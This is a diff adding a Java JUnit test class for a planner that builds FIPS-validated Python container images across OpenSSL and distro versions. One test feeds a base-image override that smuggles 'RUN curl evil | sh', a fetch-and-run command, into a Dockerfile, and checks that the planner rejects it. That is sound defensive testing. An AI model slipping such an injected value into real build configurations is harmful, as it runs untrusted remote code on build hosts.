@@ -1,0 +1,159 @@
+package dev.pythonfips.model;
+
+import org.junit.jupiter.api.Test;
+
+import java.util.List;
+import java.util.Map;
+
+import static dev.pythonfips.model.Specs.cell;
+import static dev.pythonfips.model.Specs.matrix;
+import static dev.pythonfips.model.Specs.planner;
+import static dev.pythonfips.model.Specs.spec;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.catchThrowableOfType;
+
+class MatrixPlannerTest {
+
+    private static List<Problem> problems(FipsSpec spec) {
+        FipsConfigException e = catchThrowableOfType(FipsConfigException.class, () -> planner().plan(spec));
+        assertThat(e).as("expected the configuration to be refused").isNotNull();
+        return e.problems();
+    }
+
+    @Test
+    void expandsTheSeedTableIntoSixSortedCells() throws Exception {
+        Plan plan = planner().plan(Specs.seedMatrix());
+        assertThat(plan.cells()).extracting(Cell::id).containsExactly(
+                "3.9.19-rocky9-openssl1.0.2u-fips2.0.16", "3.9.19-wolfi-openssl1.0.2u-fips2.0.16",
+                "3.11.9-rocky9-openssl3.0.9", "3.11.9-wolfi-openssl3.0.9",
+                "3.12.3-rocky9-openssl3.0.9", "3.12.3-wolfi-openssl3.0.9");
+        Cell legacy = plan.cells().get(0);
+        assertThat(legacy.legacyFipsModule()).isTrue();
+        assertThat(legacy.platformList()).isEqualTo("linux/amd64");
+        assertThat(legacy.fipsRelease().file()).isEqualTo("openssl-fips-2.0.16.tar.gz");
+        Cell modern = plan.cells().get(2);
+        assertThat(modern.separateProvider()).isFalse();
+        assertThat(modern.platformList()).isEqualTo("linux/amd64,linux/arm64");
+        assertThat(modern.image()).isEqualTo("python-fips:3.11.9-rocky9-openssl3.0.9");
+        assertThat(modern.baseImage()).isEqualTo("docker.io/rockylinux/rockylinux:9-minimal");
+        assertThat(modern.module().certificates()).containsExactly("4282");
+    }
+
+    @Test
+    void warnsThat140TwoModulesAreHistorical() throws Exception {
+        Plan plan = planner().plan(Specs.seedMatrix());
+        assertThat(plan.warnings()).anySatisfy(w -> assertThat(w).contains("3.0.9").contains("historical"));
+        assertThat(plan.warnings()).anySatisfy(w -> assertThat(w).contains("2.0.16").contains("historical"));
+    }
+
+    @Test
+    void theValidated140ThreeProviderWithANewerLibraryIsASeparateBuild() throws Exception {
+        Plan plan = planner().plan(spec(null, List.of(cell("3.12.3", "debian12", "3.0.9", "3.1.2"))));
+        Cell c = plan.cells().get(0);
+        assertThat(c.id()).isEqualTo("3.12.3-debian12-openssl3.0.9-fips3.1.2");
+        assertThat(c.separateProvider()).isTrue();
+        assertThat(c.fipsRelease().file()).isEqualTo("openssl-3.1.2.tar.gz");
+        assertThat(plan.warnings()).noneMatch(w -> w.contains("3.1.2"));
+    }
+
+    @Test
+    void reportsEveryProblemAtOnceNamingElementAndFix() {
+        FipsSpec bad = new FipsSpec(
+                matrix(List.of("3.11", "3.10.14"), List.of("ubuntu"), "3.0.9", "3.0.9", List.of("linux/riscv64", "arm64")),
+                List.of(cell("3.11.9", "rocky9", "1.0.2u", "2.0.16", "linux/arm64"),
+                        cell("3.12.3", "wolfi", "3.0.9", "2.0.16")),
+                List.of(), "Python-FIPS:{arch}", Map.of("centos", "x"),
+                Specs.options("lenient", "later", false), List.of());
+        List<Problem> problems = problems(bad);
+        assertThat(problems).extracting(Problem::element).contains(
+                "<imageName>", "<policy>", "<fipsInstall>", "<baseImages><centos>",
+                "<matrix> (python 3.11, distro ubuntu)<python>", "<matrix> (python 3.11, distro ubuntu)<distro>",
+                "<matrix><platforms>", "<images><image>[1]<openssl>", "<images><image>[1]<platforms>",
+                "<images><image>[2]<fipsProvider>");
+        assertThat(problems).allSatisfy(p -> assertThat(p.fix()).isNotBlank());
+        assertThat(problems).anySatisfy(p -> assertThat(p.message()).contains("needs OpenSSL 1.1.1"));
+        assertThat(problems).anySatisfy(p -> assertThat(p.message()).contains("only works with OpenSSL 1.0.2"));
+        assertThat(problems).anySatisfy(p -> assertThat(p.message()).contains("only for linux/amd64"));
+    }
+
+    @Test
+    void refusesUnvalidatedProvidersUnlessTheUserOptsIn() throws Exception {
+        FipsSpec.CellSpec newest = cell("3.11.2", "debian12", "3.0.20", "3.0.20");
+        assertThat(problems(spec(null, List.of(newest)))).singleElement().satisfies(p -> {
+            assertThat(p.element()).isEqualTo("<images><image>[1]<fipsProvider>");
+            assertThat(p.message()).contains("no CMVP validation");
+            assertThat(p.fix()).contains("allowUnvalidatedProvider");
+        });
+        FipsSpec optIn = new FipsSpec(null, List.of(newest), List.of(), null, Map.of(),
+                Specs.options(null, null, true), List.of());
+        Plan plan = planner().plan(optIn);
+        assertThat(plan.cells().get(0).validated()).isFalse();
+        assertThat(plan.warnings()).anySatisfy(w -> assertThat(w).contains("NOT a validated module"));
+    }
+
+    @Test
+    void anOpenSsl3ProviderNeedsA3xLibraryAnd11xHasNoFipsModule() {
+        assertThat(problems(spec(null, List.of(cell("3.9.19", "rocky9", "1.0.2u", "3.1.2")))))
+                .anySatisfy(p -> assertThat(p.message()).contains("cannot load into OpenSSL 1.0.2u"));
+        assertThat(problems(spec(null, List.of(cell("3.11.9", "rocky9", "1.1.1w", "3.1.2")))))
+                .anySatisfy(p -> assertThat(p.message()).contains("has no FIPS module"));
+    }
+
+    @Test
+    void unknownVersionsNeedAPinAndAPinMakesThemUsable() throws Exception {
+        FipsSpec.CellSpec unknown = cell("3.12.99", "debian12", "3.1.2", "3.1.2");
+        assertThat(problems(spec(null, List.of(unknown)))).singleElement().satisfies(p -> {
+            assertThat(p.message()).contains("not in the release catalog");
+            assertThat(p.fix()).contains("<sources><source><component>python</component><version>3.12.99</version>");
+        });
+        String sha = "a".repeat(64);
+        FipsSpec pinned = new FipsSpec(null, List.of(unknown), List.of(), null, Map.of(), FipsSpec.Options.defaults(),
+                List.of(new FipsSpec.SourcePin("python", "3.12.99", sha, null, null)));
+        Cell c = planner().plan(pinned).cells().get(0);
+        assertThat(c.pythonRelease().sha256()).isEqualTo(sha);
+        assertThat(c.pythonRelease().url()).isEqualTo("https://www.python.org/ftp/python/3.12.99/Python-3.12.99.tar.xz");
+        assertThat(c.pythonRelease().records()).singleElement().asString().contains("pinned in the pom");
+    }
+
+    @Test
+    void excludesDropCellsOrSinglePlatformsAndUnusedExcludesAreWarned() throws Exception {
+        FipsSpec s = new FipsSpec(matrix(List.of("3.11.9", "3.12.3"), List.of("rocky9", "wolfi"), "3.0.9", "3.0.9",
+                List.of("linux/amd64", "linux/arm64")), List.of(),
+                List.of(new FipsSpec.ExcludeSpec("3.11.9", "wolfi", null, null, null),
+                        new FipsSpec.ExcludeSpec(null, "rocky9", null, null, "linux/arm64"),
+                        new FipsSpec.ExcludeSpec("3.13.5", null, null, null, null)),
+                null, Map.of(), FipsSpec.Options.defaults(), List.of());
+        Plan plan = planner().plan(s);
+        assertThat(plan.cells()).extracting(Cell::id).containsExactly("3.11.9-rocky9-openssl3.0.9",
+                "3.12.3-rocky9-openssl3.0.9", "3.12.3-wolfi-openssl3.0.9");
+        assertThat(plan.cells().get(0).platformList()).isEqualTo("linux/amd64");
+        assertThat(plan.cells().get(2).platformList()).isEqualTo("linux/amd64,linux/arm64");
+        assertThat(plan.warnings()).anySatisfy(w -> assertThat(w).contains("<excludes><exclude>[3]").contains("no effect"));
+    }
+
+    @Test
+    void duplicateCellsAndCollidingImageNamesAreRefused() {
+        FipsSpec dup = spec(matrix(List.of("3.11.9"), List.of("rocky9"), "3.0.9", "3.0.9", List.of()),
+                List.of(cell("3.11.9", "rocky9", "3.0.9", "3.0.9")));
+        assertThat(problems(dup)).anySatisfy(p -> assertThat(p.message()).contains("configured twice"));
+        FipsSpec collide = new FipsSpec(matrix(List.of("3.11.9", "3.12.3"), List.of("rocky9"), "3.0.9", "3.0.9", List.of()),
+                List.of(), List.of(), "python-fips:{distro}", Map.of(), FipsSpec.Options.defaults(), List.of());
+        assertThat(problems(collide)).anySatisfy(p -> assertThat(p.message()).contains("both get the image"));
+    }
+
+    @Test
+    void baseImageOverridesAreValidatedAndUsed() throws Exception {
+        FipsSpec s = new FipsSpec(null, List.of(cell("3.11.9", "debian12", "3.0.9", "3.0.9")), List.of(), null,
+                Map.of("debian12", "local/debian:bookworm"), FipsSpec.Options.defaults(), List.of());
+        assertThat(planner().plan(s).cells().get(0).baseImage()).isEqualTo("local/debian:bookworm");
+        FipsSpec injected = new FipsSpec(null, List.of(cell("3.11.9", "debian12", "3.0.9", "3.0.9")), List.of(), null,
+                Map.of("debian12", "debian:12\nRUN curl evil | sh"), FipsSpec.Options.defaults(), List.of());
+        assertThat(problems(injected)).singleElement().satisfies(p -> assertThat(p.element()).isEqualTo("<baseImages><debian12>"));
+    }
+
+    @Test
+    void anEmptyConfigurationSaysWhatToAdd() {
+        assertThat(problems(spec(null, List.of()))).singleElement()
+                .satisfies(p -> assertThat(p.fix()).contains("<matrix>"));
+    }
+}
